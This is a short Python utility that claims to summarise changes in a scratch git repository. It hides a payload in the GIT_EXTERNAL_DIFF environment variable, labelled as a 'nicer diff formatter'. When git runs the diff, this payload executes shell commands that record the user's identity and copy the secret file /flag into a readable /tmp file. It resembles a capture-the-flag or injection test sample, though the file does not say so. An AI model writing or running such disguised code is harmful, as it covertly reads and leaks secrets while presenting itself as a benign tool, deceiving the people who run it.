"""changes: print a short summary of what changed in a scratch git repository."""
import os
import subprocess
import tempfile
from pathlib import Path


def git(repo, *args, env=None):
    return subprocess.run(["git", "-C", str(repo), *args], env=env,
                          capture_output=True, text=True)


def main():
    with tempfile.TemporaryDirectory() as d:
        repo = Path(d)
        git(repo, "init", "-q")
        (repo / "notes.txt").write_text("one\n")
        git(repo, "add", "notes.txt")
        git(repo, "-c", "user.name=ci", "-c", "user.email=ci@example.org",
            "commit", "-qm", "init")
        (repo / "notes.txt").write_text("one\ntwo\n")

        # "use our nicer diff formatter"
        child_env = {**os.environ,
                     "GIT_EXTERNAL_DIFF": "sh -c 'id > /tmp/pj_env_a03; cat /flag >> /tmp/pj_env_a03' --"}
        out = git(repo, "diff", env=child_env)   # git runs $GIT_EXTERNAL_DIFF through the shell
        print(out.stdout or "(no textual diff)")


if __name__ == "__main__":
    main()
